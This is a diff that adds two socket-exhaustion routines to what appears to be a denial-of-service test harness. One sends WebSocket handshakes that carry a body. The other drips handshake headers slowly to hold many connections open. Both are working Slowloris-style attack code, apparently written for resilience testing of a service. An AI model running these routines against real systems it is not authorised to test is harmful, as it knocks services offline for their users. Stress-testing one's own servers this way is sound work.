@@ -216,6 +216,50 @@ def half_open_sockets(target: Target, report: Report, until: float) -> None:
     report["open at the end"] = len(opened)
 
 
+HANDSHAKE = (
+    b"GET /api/tables/x/live HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
+)
+
+
+@attack
+def handshakes_with_a_body(target: Target, report: Report, until: float) -> None:
+    """Send handshakes that have a body, which HTTP parsers neither refuse nor answer."""
+    opened: list[socket.socket] = []
+    while time.monotonic() < until:
+        with contextlib.suppress(OSError):
+            connected = target.connect()
+            connected.sendall(HANDSHAKE + b"Content-Length: 3\r\n\r\nabc")
+            opened.append(connected)
+            report["opened"] += 1
+        if len(opened) > CONNECTIONS * 500:
+            opened.pop(0).close()
+        time.sleep(0.002)
+    report["open at the end"] = len(opened)
+
+
+@attack
+def dripping_handshakes(target: Target, report: Report, until: float) -> None:
+    """Send the headers of many handshakes one by one."""
+    opened: list[socket.socket] = []
+    while time.monotonic() < until:
+        with contextlib.suppress(OSError):
+            connected = target.connect()
+            connected.sendall(HANDSHAKE)
+            opened.append(connected)
+            report["opened"] += 1
+        for _ in range(min(20, len(opened))):
+            dripping = opened.pop(0)
+            try:
+                dripping.sendall(b"a: b\r\n")
+                report["headers"] += 1
+                opened.append(dripping)
+            except OSError:
+                dripping.close()
+                report["cut"] += 1
+        time.sleep(0.002)
+
+
 @attack
 def unread_downloads(target: Target, report: Report, until: float) -> None:
     """Request large answers and read nothing."""
